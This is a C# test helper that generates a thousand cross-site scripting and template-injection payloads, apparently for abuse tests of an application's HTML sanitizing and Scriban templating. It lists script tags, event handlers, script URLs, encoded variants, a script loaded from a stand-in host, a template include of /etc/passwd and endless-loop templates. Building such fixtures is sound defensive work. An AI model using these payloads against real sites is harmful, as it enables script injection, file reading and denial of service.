using System.Net;

namespace Briefings.Core.Tests.Abuse;

/// <summary>
/// A thousand cross-site scripting and template-injection payloads, generated from the known
/// classes (script elements, event handlers, script URLs in every URL attribute, SVG and MathML,
/// attributes broken out of with quotes, Scriban and other template syntax) and the usual
/// obfuscations (mixed case, entities, whitespace and control characters, encodings).
/// </summary>
internal static class XssPayloads
{
    /// <summary>Text that appears in the output only if a template evaluated an injected expression.</summary>
    public const string InjectionMarker = "INJECTEDXYZ";

    private static readonly string[] ScriptUrls =
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "java\u0000script:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
        "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
        "javascript&colon;alert(1)",
        "jav&#x09;ascript:alert(1)",
        "javascript://%0aalert(1)",
        "vbscript:msgbox(1)",
        "VBScript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:text/html,<script>alert(1)</script>",
        "DATA:image/svg+xml,<svg onload=alert(1)>",
        "livescript:alert(1)",
        "mocha:alert(1)",
        "feed:javascript:alert(1)",
    ];

    private static readonly string[] Handlers =
    [
        "onerror", "onload", "onmouseover", "onfocus", "onclick", "ontoggle", "onbegin", "onanimationstart", "onpointerenter", "OnErRoR", "ONLOAD",
    ];

    private static IEnumerable<string> Bases()
    {
        yield return "<script>alert(1)</script>";
        yield return "<ScRiPt>alert(1)</sCrIpT>";
        yield return "<script src=//evil.example/x.js></script>";
        yield return "<script/x>alert(1)</script>";
        yield return "<<script>script>alert(1)<</script>/script>";
        yield return "</title><script>alert(1)</script>";
        yield return "</textarea><script>alert(1)</script>";
        yield return "</style><script>alert(1)</script>";
        yield return "<!--<script>alert(1)//-->";
        yield return "<![CDATA[<script>alert(1)</script>]]>";
        yield return "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">";
        yield return "<template><script>alert(1)</script></template>";
        foreach (var handler in Handlers)
        {
            yield return $"<img src=x {handler}=alert(1)>";
            yield return $"<img/src/{handler}=alert(1)>";
            yield return $"<svg {handler}=alert(1)>";
            yield return $"<body {handler}=alert(1)>";
            yield return $"<details open {handler}=alert(1)>";
            yield return $"<input autofocus {handler}=\"alert(1)\">";
            yield return $"<div style=\"animation-name:x\" {handler}='alert(1)'>";
            yield return $"\" {handler}=\"alert(1)";
            yield return $"' {handler}='alert(1)' x='";
        }

        foreach (var url in ScriptUrls)
        {
            yield return url;
            yield return $"<a href=\"{url}\">click</a>";
            yield return $"<a href='{url}'>click</a>";
            yield return $"<a href={url}>click</a>";
            yield return $"<iframe src=\"{url}\"></iframe>";
            yield return $"<form action=\"{url}\"><button>go</button></form>";
            yield return $"<button formaction=\"{url}\">go</button>";
            yield return $"<object data=\"{url}\"></object>";
            yield return $"<embed src=\"{url}\">";
            yield return $"<base href=\"{url}\">";
            yield return $"<meta http-equiv=\"refresh\" content=\"0;url={url}\">";
            yield return $"<svg><a xlink:href=\"{url}\"><text>x</text></a></svg>";
            yield return $"<math><maction actiontype=\"statusline\" xlink:href=\"{url}\">x</maction></math>";
            yield return $"\"><a href=\"{url}\">x</a>";
        }

        yield return "<svg><script>alert(1)</script></svg>";
        yield return "<svg><animate attributeName=href values=javascript:alert(1) /></svg>";
        yield return "<svg><set attributeName=onmouseover to=alert(1) /></svg>";
        yield return "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>";
        yield return "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>";
        yield return "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>";
        yield return "<svg/onload=alert(1)>";
        yield return "\"><script>alert(1)</script>";
        yield return "'><script>alert(1)</script>";
        yield return "\"><img src=x onerror=alert(1)>";
        yield return "'><img src=x onerror=alert(1)>";
        yield return "`><img src=x onerror=alert(1)>";
        yield return "\" autofocus onfocus=\"alert(1)";
        yield return "</a><script>alert(1)</script><a>";
        yield return "<style>@import 'javascript:alert(1)';</style>";
        yield return "<div style=\"background:url(javascript:alert(1))\">x</div>";
        yield return "<div style=\"width:expression(alert(1))\">x</div>";
        yield return "<link rel=stylesheet href=javascript:alert(1)>";
        yield return "<isindex action=javascript:alert(1) type=image>";
        yield return "<marquee onstart=alert(1)>x</marquee>";
        yield return "&lt;script&gt;alert(1)&lt;/script&gt;";
        yield return "%3Cscript%3Ealert(1)%3C/script%3E";
        yield return "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e";
        yield return "{{ \"INJECTED\" + \"XYZ\" }}";
        yield return "{{ 'INJECTED' + 'XYZ' }}";
        yield return "{{ for x in 1..100000000 }}x{{ end }}";
        yield return "{{ while true }}x{{ end }}";
        yield return "{{ include '../../../../etc/passwd' }}";
        yield return "{{ func f; f; end; f }}";
        yield return "{{ x = \"<script>alert(1)</script>\"; x }}";
        yield return "{{~ \"INJECTED\" + \"XYZ\" ~}}";
        yield return "{% \"INJECTED\" + \"XYZ\" %}";
        yield return "{{}}{{ end }}{{";
        yield return "${\"INJECTED\" + \"XYZ\"}";
        yield return "#{7*7}";
        yield return "<%= 7*7 %>";
        yield return "{{constructor.constructor('alert(1)')()}}";
    }

    private static readonly Func<string, string>[] Obfuscations =
    [
        p => p,
        p => "Breaking: " + p,
        p => p + " said the mayor",
        p => p.ToUpperInvariant(),
        p => p.Replace("<", "< ", StringComparison.Ordinal),
        p => p.Replace(" ", "\t", StringComparison.Ordinal),
        p => p.Replace(" ", "/", StringComparison.Ordinal),
        p => p.Replace(" ", "\n", StringComparison.Ordinal),
        p => WebUtility.HtmlEncode(p),
        p => Uri.EscapeDataString(p),
        p => p.Replace("script", "scr\u0000ipt", StringComparison.OrdinalIgnoreCase),
        p => p.Replace("=", " = ", StringComparison.Ordinal),
        p => "\u201c" + p + "\u201d",
        p => p.Replace("alert(1)", "alert`1`", StringComparison.Ordinal),
        p => p.Replace("alert(1)", "eval(atob('YWxlcnQoMSk='))", StringComparison.Ordinal),
    ];

    /// <summary>Exactly <paramref name="count"/> distinct payloads, every class represented.</summary>
    public static IReadOnlyList<string> Generate(int count = 1000)
    {
        var bases = Bases().Distinct().ToList();
        var all = new List<string>(count);
        var seen = new HashSet<string>(StringComparer.Ordinal);
        for (var round = 0; all.Count < count && round < Obfuscations.Length; round++)
        {
            foreach (var payload in bases.Select(Obfuscations[round]))
            {
                if (all.Count < count && seen.Add(payload))
                {
                    all.Add(payload);
                }
            }
        }

        return all;
    }
}
